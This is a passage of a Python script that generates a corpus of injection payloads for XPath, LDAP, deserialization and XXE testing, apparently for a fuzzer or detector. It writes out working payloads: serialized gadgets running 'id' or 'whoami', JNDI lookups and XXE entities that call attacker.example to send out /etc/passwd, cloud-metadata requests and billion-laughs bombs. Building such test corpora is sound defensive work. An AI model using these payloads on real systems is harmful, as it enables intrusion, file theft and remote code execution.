            "'or text()='", "' or last()=1 or '", "\") or (\"1\"=\"1", "\" or \"1\"=\"1", "' or local-name()='user' or '",
            "' and substring(//user[1]/password,1,1)='a' and '1'='1", "' or normalize-space(//user[1])!='' or '",
            "' or translate(//user[1]/name,'a','b')='b' or '", "' or starts-with(//user[1]/password,'a') or '",
            "'] | //node() | //*['", "' or true() or '", "' or not(false()) or '"]
    for p in base:
        bag.add(p, rotate(rng, p, ["query", "query", "json", "form", "cookie", "header"]))
    for p in rng.sample(base, 24):
        bag.add(p.replace(" ", "  ").upper().replace("COUNT", "count").replace("NAME()", "name()"), rotate(rng, p, ["query", "json", "form"]))
    # XPath payloads in an XML body's text and attribute values (SOAP-style).
    for p in rng.sample(base, 20):
        esc = p.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
        doc = ('<?xml version="1.0"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body>'
               f"<login><user>{esc}</user><pass>x</pass></login></soap:Body></soap:Envelope>")
        bag.add(doc, "xml")
    for p in rng.sample(base, 8):
        esc = p.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;")
        bag.add(f'<search user="{esc}"/>', "xml")
    return bag


# ---------------------------------------------------------------------------------------------------------------
# LDAP injection

def ldap(rng):
    bag = Bag("ldap")
    places = ["query", "query", "json", "form", "cookie"]
    for l in source("LDAP Injection/Intruder/LDAP_FUZZ.txt"):
        l = decode_once(l.strip())
        if len(l) < 4 or "(" not in l and ")" not in l:
            continue
        if not re.search(r"[()].*[=*|&]|[=*|&].*[()]", l):
            continue
        bag.add(l, rotate(rng, l, places))
    attrs = ["uid", "cn", "mail", "objectClass", "userPassword", "sn", "memberOf", "sAMAccountName", "givenName",
             "description", "telephoneNumber", "homeDirectory"]
    forms = ["*)({a}=*))(|({a}=*", "*)(|({a}=*))", "admin)(&)", "admin)(|({a}=*))", "*)({a}=*", "x)(!({a}=x))",
             "admin*)((|{a}=*)", "*))(|({a}=*", ")(|({a}=*)(", "admin)(|(&({a}=*)))", "*)(&({a}=*))", "x*))%00",
             "admin)({a}=a*)", "*)({a}>=0", "jdoe)(|(objectClass=*)({a}=*))"]
    for f in forms:
        for a in rng.sample(attrs, 4):
            p = f.format(a=a)
            bag.add(p, rotate(rng, p, places))
    return bag


# ---------------------------------------------------------------------------------------------------------------
# Deserialization (PHP and Java mainly; a few other formats' markers)

def deserialization(rng):
    bag = Bag("deserialization")
    places = ["query", "json", "json", "form", "cookie", "header"]
    php_classes = ["GuzzleHttp\\Cookie\\FileCookieJar", "Monolog\\Handler\\SyslogUdpHandler", "Illuminate\\Broadcasting\\PendingBroadcast",
                   "Symfony\\Component\\Process\\Process", "Example1", "User", "Swift_ByteStream_TemporaryFileByteStream",
                   "Zend_Log", "yii\\db\\BatchQueryResult", "PHPObjectInjection", "Requests_Utility_FilteredIterator"]
    for c in php_classes:
        for tmpl in ['O:{n}:"{c}":1:{{s:4:"file";s:11:"/etc/passwd";}}', 'O:{n}:"{c}":2:{{s:7:"command";s:2:"id";s:4:"data";a:0:{{}}}}',
                     'a:2:{{i:0;O:{n}:"{c}":0:{{}}i:1;s:3:"abc";}}', 'C:{n}:"{c}":20:{{a:1:{{i:0;s:2:"id";}}}}']:
            p = tmpl.format(n=len(c), c=c)
            bag.add(p, rotate(rng, p, places))
    for p in ['O:+8:"stdClass":1:{s:1:"a";s:1:"b";}', 'a:1:{i:0;O:8:"stdClass":0:{}}', 'O:8:"stdClass":1:{s:4:"test";b:1;}',
              'phar://uploads/evil.jpg', 'O:18:"PHPObjectInjection":1:{s:6:"inject";s:17:"system(\'whoami\');";}',
              'b:0;O:4:"Test":0:{}', 'O:4:"Test":1:{s:3:"cmd";s:2:"id";}']:
        bag.add(p, rotate(rng, p, places))
    # Java serialization: the stream magic AC ED 00 05 as base64 (rO0AB...), hex, and gzip+base64 (H4sI).
    java_b64 = ["rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhwP0AAAAAAAAx3CAAAABAAAAABdAABYXQAAWJ4",
                "rO0ABXNyADJzdW4ucmVmbGVjdC5hbm5vdGF0aW9uLkFubm90YXRpb25JbnZvY2F0aW9uSGFuZGxlclXK9Q8Vy36lAgACTAAMbWVtYmVyVmFsdWVzdAAPTGphdmEvdXRpbC9NYXA7",
                "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZZTaMLT7P4KxAwACSQAEc2l6ZUwACmNvbXBhcmF0b3J0ABZMamF2YS91dGlsL0NvbXBhcmF0b3I7",
                "rO0ABXNyAC5qYXZheC5tYW5hZ2VtZW50LkJhZEF0dHJpYnV0ZVZhbHVlRXhwRXhjZXB0aW9u1Ofaq2MtRkACAAFMAAN2YWx0ABJMamF2YS9sYW5nL09iamVjdDs",
                "rO0ABXcEAAAAAXQABmNhbGMuZQ==", "rO0ABXQAAmlk", "rO0ABXVyABNbTGphdmEubGFuZy5TdHJpbmc7rdJW5+kde0cCAAB4cAAAAAF0AAJpZA=="]
    for b in java_b64:
        bag.add(b, rotate(rng, b, places))
        bag.add("JSESSIONID=" + b, "cookie")
        bag.add(b[:60], rotate(rng, b[:60], places))
    for h in ["aced0005737200116a6176612e7574696c2e486173684d6170", "ACED00057372001A", "aced00057400026964",
              "H4sIAAAAAAAAAJVSz2sTQRR+u0kbU4u2FhUPgh4EBZlN1VNzkqAQ2KbSFhELkslmmm67O7POvK0bD/0vvHj14kn/i",
              "H4sIAAAAAAAA/1vzloG1uIhBPjE5NTEpRy8ktbhEzzGxONU5P7+oRKO4pEizoCSlNK/IQg+opsoTAK4ZsdAoAAAA"]:
        bag.add(h, rotate(rng, h, places))
    # .NET, Python pickle, YAML, node-serialize, JSON type confusion (Jackson, Fastjson, Json.NET).
    other = ['AAEAAAD/////AQAAAAAAAAAMAgAAAElTeXN0ZW0sIFZlcnNpb249NC4wLjAuMCwgQ3VsdHVyZT1uZXV0cmFs',
             '/wEyxBEAAQAAAP////8BAAAAAAAAAAwCAAAAXk1pY3Jvc29mdC5Qb3dlclNoZWxsLkVkaXRvcg==',
             "gASVJAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==", "cos\nsystem\n(S'id'\ntR.",
             "cposix\nsystem\np0\n(Vwhoami\np1\ntp2\nRp3\n.", "!!python/object/apply:os.system [\"id\"]",
             "!!python/object/apply:subprocess.check_output [[\"id\"]]", "!!python/object/new:os.system [\"whoami\"]",
             "--- !ruby/object:Gem::Installer\ni: x", "!ruby/object:Gem::Requirement\nrequirements: !ruby/object:Gem::DependencyList",
             "{\"rce\":\"_$$ND_FUNC$$_function(){require('child_process').exec('id')}()\"}",
             "_$$ND_FUNC$$_function(){return require('child_process').execSync('id').toString()}()",
             '{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://attacker.example:1389/a","autoCommit":true}',
             '["com.sun.rowset.JdbcRowSetImpl",{"dataSourceName":"rmi://attacker.example:1099/a","autoCommit":true}]',
             '{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework","MethodName":"Start","ObjectInstance":{"$type":"System.Diagnostics.Process, System"}}',
             '{"@type":"org.apache.xbean.propertyeditor.JndiConverter","AsText":"ldap://attacker.example/a"}',
             '{"@type":"java.lang.AutoCloseable"}', '["org.springframework.context.support.ClassPathXmlApplicationContext","http://attacker.example/spel.xml"]',
             '{"object":["ch.qos.logback.core.db.JNDIConnectionSource",{"jndiLocation":"ldap://attacker.example:1389/a"}]}',
             "<java><object class=\"java.lang.ProcessBuilder\"><array class=\"java.lang.String\" length=\"1\"><void index=\"0\"><string>id</string></void></array><void method=\"start\"/></object></java>",
             "<sorted-set><dynamic-proxy><interface>java.lang.Comparable</interface><handler class=\"java.beans.EventHandler\"><target class=\"java.lang.ProcessBuilder\"><command><string>id</string></command></target><action>start</action></handler></dynamic-proxy></sorted-set>"]
    for p in other:
        pl = "xml" if p.startswith("<") else rotate(rng, p, places)
        bag.add(p, pl)
    return bag


# ---------------------------------------------------------------------------------------------------------------
# XXE: whole XML bodies with a DTD / entity declarations

def xxe(rng):
    bag = Bag("xxe")
    for f in ["XXE Injection/Intruders/XXE_Fuzzing.txt", "XXE Injection/Intruders/xml-attacks.txt"]:
        for l in source(f):
            l = l.strip()
            if "<!DOCTYPE" not in l.upper() or "<!ENTITY" not in l.upper() or l.startswith("<xml"):
                continue
            l = re.sub(r"&(xxe|foo)<", r"&\1;<", l)
            if not re.search(r"<[A-Za-z][^!?]", l.split("]>")[-1] if "]>" in l else ""):
                l = l + "<foo>&xxe;</foo>" if "xxe" in l else l + "<root/>"
            bag.add(l, "xml")
    targets = ["file:///etc/passwd", "file:///c:/windows/win.ini", "http://169.254.169.254/latest/meta-data/",
               "php://filter/convert.base64-encode/resource=index.php", "expect://id", "http://attacker.example/x.dtd",
               "file:///proc/self/environ", "jar:http://attacker.example/a.jar!/x", "netdoc:///etc/hosts", "gopher://127.0.0.1:6379/_INFO",
               "file:///dev/random", "ftp://attacker.example/x"]
    roots = [("foo", "<foo>&xxe;</foo>"), ("data", "<data><id>1</id><name>&xxe;</name></data>"),
             ("soap:Envelope", '<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><get><id>&xxe;</id></get></soap:Body></soap:Envelope>'),
             ("svg", '<svg xmlns="http://www.w3.org/2000/svg"><text x="0" y="16">&xxe;</text></svg>'),
             ("order", '<order id="7"><note>&xxe;</note></order>')]
    for t in targets:
        for root, body in rng.sample(roots, 3):
            decl = rng.choice(['<?xml version="1.0"?>', '<?xml version="1.0" encoding="UTF-8"?>', ""])
            kw = rng.choice(["SYSTEM", "SYSTEM", 'PUBLIC "-//X//Y//EN"'])
            bag.add(f'{decl}<!DOCTYPE {root} [<!ENTITY xxe {kw} "{t}">]>{body}', "xml")
    # Parameter entities, out-of-band exfiltration, external DTDs, billion laughs, nested DOCTYPE spellings.
    extra = [
        '<?xml version="1.0"?><!DOCTYPE data [<!ENTITY % dtd SYSTEM "http://attacker.example/evil.dtd"> %dtd;]><data>&send;</data>',
        '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % file SYSTEM "file:///etc/passwd"><!ENTITY % eval "<!ENTITY &#x25; exfil SYSTEM \'http://attacker.example/?x=%file;\'>">%eval;%exfil;]><r/>',
        '<?xml version="1.0"?><!DOCTYPE foo SYSTEM "http://attacker.example/ext.dtd"><foo>x</foo>',
        '<!DOCTYPE foo PUBLIC "-//OASIS//DTD DocBook V4.1//EN" "http://attacker.example/x.dtd"><foo/>',
        '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]><lolz>&lol3;</lolz>',
        '<?xml version="1.0"?><!DOCTYPE q [<!ENTITY a "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><q>&b;&b;&b;</q>',
        '<?xml version="1.0"?><!DOCTYPE foo [<!ELEMENT foo ANY><!ENTITY % xxe SYSTEM "file:///etc/hostname"><!ENTITY callhome SYSTEM "http://attacker.example/?%xxe;">]><foo>&callhome;</foo>',
        '<?xml version="1.0"?><!doctype foo [<!entity xxe system "file:///etc/passwd">]><foo>&xxe;</foo>',
        '<?xml version="1.0"?>\n<!DOCTYPE\n  foo\n  [\n  <!ENTITY\n    xxe\n    SYSTEM\n    "file:///etc/passwd"\n  >\n]>\n<foo>&xxe;</foo>',
        '<?xml version="1.0" standalone="no"?><!DOCTYPE x [<!ENTITY % a SYSTEM "jar:file:///tmp/a.zip!/b.dtd">%a;]><x/>',
        '<!DOCTYPE x [ <!ENTITY % local_dtd SYSTEM "file:///usr/share/yelp/dtd/docbookx.dtd"><!ENTITY % ISOamso \'<!ENTITY &#x25; file SYSTEM "file:///etc/passwd">\'>%local_dtd;]><x/>',
        '<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE plist [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><plist version="1.0"><dict><key>a</key><string>&xxe;</string></dict></plist>',
        '<?xml version="1.0"?><!DOCTYPE methodCall [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><methodCall><methodName>&xxe;</methodName></methodCall>',
        '<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY xxe SYSTEM "http://127.0.0.1:8080/admin">]><rss version="2.0"><channel><title>&xxe;</title></channel></rss>',
    ]
    for e in extra:
        bag.add(e, "xml")
    return bag


def xml_wrap(p, i):
    text = p.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    attr = text.replace('"', "&quot;")
    forms = [
        '<?xml version="1.0"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body>'
        f'<GetOrder><id>{text}</id></GetOrder></soap:Body></soap:Envelope>',
        f'<?xml version="1.0" encoding="UTF-8"?><search><query>{text}</query><page>1</page></search>',
        f'<profile><name lang="en">x</name><bio>{text}</bio></profile>',
        f'<item id="{attr}"><title>x</title></item>',
    ]
    return forms[i % len(forms)]


def main():
    if not GIT:
        sys.exit(__doc__)
    counts = {}
    xml_wrapped = {"sqli": 14, "xss": 14, "cmdi": 8, "traversal": 8, "ssrf": 6, "template": 6, "ldap": 6}
    for name, fn in [("sqli", sqli), ("xss", xss), ("cmdi", cmdi), ("traversal", traversal), ("ssrf", ssrf),
                     ("template", template), ("nosql", nosql), ("xpath", xpath), ("ldap", ldap),
                     ("deserialization", deserialization), ("xxe", xxe)]:
        rng = random.Random(f"{SEED}-{name}")
        bag = fn(rng)
        # Places the replay does not have (xml_text) become an XML body with the payload as element text.
        # Some payloads again as the text or an attribute of an XML body (SOAP included): XML is a target too.
        n = xml_wrapped.get(name, 0)
        pool = [it["payload"] for it in bag.items if it["place"] != "xml" and "\x00" not in it["payload"]]
        for i, p in enumerate(rng.sample(pool, n) if n else []):
            bag.add(xml_wrap(p, i), "xml")
        counts[name] = bag.write()
    for k, v in counts.items():
        print(f"{k:16} {v}")


if __name__ == "__main__":
    main()
